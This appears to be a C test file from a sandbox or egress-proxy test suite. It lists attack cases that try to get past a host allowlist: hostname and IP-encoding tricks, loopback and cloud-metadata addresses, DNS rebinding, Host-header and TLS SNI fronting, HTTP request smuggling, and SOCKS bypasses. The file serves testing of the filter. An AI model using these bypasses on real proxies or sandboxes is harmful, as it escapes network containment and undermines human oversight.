// Getting past the proxy that lets a confined program reach the hosts it declared. Where there is no proxy, the same bytes go
// straight to where they should not.
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>

#define ALLOWED "93.184.215.14"
#define DENIED "93.184.216.34"

static int dial(const char *address, int port) {
    int v6 = strchr(address, ':') != NULL;
    int fd = must(socket(v6 ? AF_INET6 : AF_INET, SOCK_STREAM, 0), "socket");
    struct timeval patience = {0, 300000};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    struct sockaddr_in four = {.sin_family = AF_INET, .sin_port = htons(port)};
    struct sockaddr_in6 six = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
    inet_pton(AF_INET, address, &four.sin_addr);
    inet_pton(AF_INET6, address, &six.sin6_addr);
    if (v6) must(connect(fd, (struct sockaddr *)&six, sizeof six), "connect");
    else must(connect(fd, (struct sockaddr *)&four, sizeof four), "connect");
    return fd;
}

static void say(int fd, const void *bytes, size_t length) { must(send(fd, bytes, length, MSG_NOSIGNAL), "send"); }

static void say_text(int fd, const char *text) { say(fd, text, strlen(text)); }

static int dial_proxy(const char *variable) {
    char address[64];
    snprintf(address, sizeof address, "%s", given(variable));
    char *colon = strrchr(address, ':');
    *colon = 0;
    return dial(address, atoi(colon + 1));
}

// A stream to `authority` by the proxy; without one, to the address.
static int stream_to(const char *authority, const char *address, int port) {
    if (!getenv("HTTP_GATE")) return dial(address, port);
    int fd = dial_proxy("HTTP_GATE");
    char text[1024];
    snprintf(text, sizeof text, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", authority, authority);
    say_text(fd, text);
    ssize_t length = recv(fd, text, sizeof text - 1, 0);
    if (length <= 0) failed("the proxy's answer");
    text[length] = 0;
    if (strncmp(text + 8, " 200", 4)) {
        text[strcspn(text, "\r\n")] = 0;
        printf("failed: the proxy says %s\n", text);
        exit(1);
    }
    return fd;
}

// Long enough for the proxy to pass on what it would.
static void say_nonce(int fd) {
    char text[256];
    snprintf(text, sizeof text, "GET /%s HTTP/1.1\r\nHost: %s\r\n\r\n", given("NONCE"), given("NONCE"));
    say_text(fd, text);
    recv(fd, text, sizeof text, 0);
}

static void through(const char *authority, const char *address, int port) {
    say_nonce(stream_to(authority, address, port));
}

ATTACK(gate_around) { say_nonce(dial(DENIED, 80)); }

ATTACK(gate_other_name) { through("denied.test:80", DENIED, 80); }

ATTACK(gate_name_below) { through("allowed.test.denied.test:80", DENIED, 80); }

ATTACK(gate_name_alike) { through("notallowed.test:80", DENIED, 80); }

ATTACK(gate_name_with_user) { through("allowed.test:80@denied.test:80", DENIED, 80); }

ATTACK(gate_address) { through(DENIED ":80", DENIED, 80); }

ATTACK(gate_other_port) { through("allowed.test:7777", ALLOWED, PORT); }

ATTACK(gate_loopback) { through("127.0.0.1:7777", "127.0.0.1", PORT); }

ATTACK(gate_loopback_name) { through("localhost:7777", "127.0.0.1", PORT); }

ATTACK(gate_loopback6) { through("[::1]:7777", "::1", PORT); }

ATTACK(gate_loopback_mapped) { through("[::ffff:127.0.0.1]:7777", "127.0.0.1", PORT); }

ATTACK(gate_any_address) { through("0.0.0.0:7777", "127.0.0.1", PORT); }

ATTACK(gate_address_as_number) { through("2130706433:7777", "127.0.0.1", PORT); }

ATTACK(gate_address_shortened) { through("127.1:7777", "127.0.0.1", PORT); }

ATTACK(gate_metadata_service) { through("169.254.169.254:80", "169.254.169.254", 80); }

// Declared names whose owner lets them lead elsewhere.
ATTACK(gate_name_to_loopback) { through("rebound.test:80", "127.0.0.1", 80); }

ATTACK(gate_name_to_metadata) { through("inside.test:80", "169.254.169.254", 80); }

// The name leads outside when it is asked for first, and to this machine from then on.
ATTACK(gate_name_that_flips) {
    for (int i = 0; i < 3; i++) {
        pid_t child = fork();
        if (child == 0) {
            through("flips.test:80", "127.0.0.1", 80);
            exit(0);
        }
        reap(child);
    }
}

// A stream to the declared host, by the address that its name has here.
static int to_allowed(int port) { return dial(getenv("HTTP_GATE") ? "127.77.0.1" : ALLOWED, port); }

static void front(int fd, const char *format) {
    char text[1024];
    snprintf(text, sizeof text, format, given("NONCE"));
    say_text(fd, text);
    recv(fd, text, sizeof text, 0);
}

// The host that answers at an address may be another than the one that was asked for, when many share it.
ATTACK(gate_front_host) { front(to_allowed(80), "GET / HTTP/1.1\r\nHost: %s.denied.test\r\n\r\n"); }

ATTACK(gate_front_host_in_tunnel) {
    front(stream_to("allowed.test:80", ALLOWED, 80), "GET / HTTP/1.1\r\nHost: %s.denied.test\r\n\r\n");
}

ATTACK(gate_front_second_request) {
    front(to_allowed(80), "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET / HTTP/1.1\r\nHost: %s.denied.test\r\n\r\n");
}

ATTACK(gate_front_smuggled) {
    front(to_allowed(80), "POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
                          "0\r\n\r\nGET / HTTP/1.1\r\nHost: %s.denied.test\r\n\r\n");
}

ATTACK(gate_front_two_hosts) {
    front(to_allowed(80), "GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: %s.denied.test\r\n\r\n");
}

ATTACK(gate_absolute_request) {
    front(getenv("HTTP_GATE") ? dial_proxy("HTTP_GATE") : dial(DENIED, 80),
          "GET http://denied.test/%s HTTP/1.1\r\nHost: allowed.test\r\n\r\n");
}

// The first message of TLS, with the name of another host in it.
static void hello(int fd) {
    char name[128];
    int length = snprintf(name, sizeof name, "%s.denied.test", given("NONCE"));
    unsigned char bytes[512] = {0};
    int at = 9; // after the heads of the record and of the message
    bytes[at++] = 3, bytes[at++] = 3;
    at += 32;          // random
    bytes[at++] = 0;   // no session
    bytes[at++] = 0, bytes[at++] = 2, bytes[at++] = 0x13, bytes[at++] = 0x01;
    bytes[at++] = 1, bytes[at++] = 0;
    int extensions = at;
    at += 2;
    bytes[at++] = 0, bytes[at++] = 0, bytes[at++] = 0, bytes[at++] = length + 5;
    bytes[at++] = 0, bytes[at++] = length + 3, bytes[at++] = 0;
    bytes[at++] = 0, bytes[at++] = length;
    memcpy(bytes + at, name, length);
    at += length;
    // The versions, of which 1.3 is one.
    memcpy(bytes + at, "\0\x2b\0\3\2\3\4", 7);
    at += 7;
    bytes[extensions] = (at - extensions - 2) >> 8, bytes[extensions + 1] = at - extensions - 2;
    bytes[0] = 22, bytes[1] = 3, bytes[2] = 1, bytes[3] = (at - 5) >> 8, bytes[4] = at - 5;
    bytes[5] = 1, bytes[7] = (at - 9) >> 8, bytes[8] = at - 9;
    say(fd, bytes, at);
    recv(fd, bytes, sizeof bytes, 0);
}

ATTACK(gate_front_tls) { hello(to_allowed(443)); }

ATTACK(gate_front_tls_in_tunnel) { hello(stream_to("allowed.test:443", ALLOWED, 443)); }

// The same roads by SOCKS5: kind 1 is an address, 3 a name, 4 an address of version 6.
static void by_socks(int command, int kind, const void *host, int length, int port, const char *address) {
    if (!getenv("SOCKS_GATE")) {
        say_nonce(dial(address, port));
        return;
    }
    int fd = dial_proxy("SOCKS_GATE");
    unsigned char bytes[300] = {5, 1, 0};
    say(fd, bytes, 3);
    if (recv(fd, bytes, 2, MSG_WAITALL) != 2 || bytes[1]) failed("the proxy's answer");
    int at = 0;
    bytes[at++] = 5, bytes[at++] = command, bytes[at++] = 0, bytes[at++] = kind;
    if (kind == 3) bytes[at++] = length;
    memcpy(bytes + at, host, length);
    at += length;
    bytes[at++] = port >> 8, bytes[at++] = port;
    say(fd, bytes, at);
    ssize_t got = recv(fd, bytes, sizeof bytes, 0);
    if (got < 2 || bytes[1]) {
        printf("failed: the proxy says %d\n", got < 2 ? -1 : bytes[1]);
        exit(1);
    }
    say_nonce(fd);
}

ATTACK(gate_socks_name) { by_socks(1, 3, "denied.test", 11, 80, DENIED); }

ATTACK(gate_socks_address) { by_socks(1, 1, "\x5d\xb8\xd8\x22", 4, 80, DENIED); }

ATTACK(gate_socks_loopback) { by_socks(1, 1, "\x7f\0\0\1", 4, PORT, "127.0.0.1"); }

ATTACK(gate_socks_loopback6) { by_socks(1, 4, "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\1", 16, PORT, "::1"); }

ATTACK(gate_socks_text_address) { by_socks(1, 3, "127.0.0.1", 9, PORT, "127.0.0.1"); }

ATTACK(gate_socks_datagrams) { by_socks(3, 1, "\x5d\xb8\xd8\x22", 4, 80, DENIED); }

ATTACK(gate_socks4) {
    if (!getenv("SOCKS_GATE")) {
        say_nonce(dial(DENIED, 80));
        return;
    }
    int fd = dial_proxy("SOCKS_GATE");
    unsigned char bytes[9] = {4, 1, 0, 80, 0x5d, 0xb8, 0xd8, 0x22, 0};
    say(fd, bytes, sizeof bytes);
    if (recv(fd, bytes, 8, MSG_WAITALL) != 8 || bytes[1] != 90) failed("the proxy's answer");
    say_nonce(fd);
}

ATTACK(may_reach_what_it_declared) {
    char text[512];
    for (int by_name = 0; by_name < 2; by_name++) {
        int fd = by_name ? to_allowed(80) : stream_to("allowed.test:80", ALLOWED, 80);
        say_text(fd, "GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n");
        ssize_t length = recv(fd, text, sizeof text - 1, 0);
        if (length <= 0) failed("the answer");
        text[length] = 0;
        if (!strstr(text, "200 OK")) {
            printf("failed: it answers %s\n", text);
            return;
        }
    }
    worked("a service outside answers, by the proxy and by its name");
}
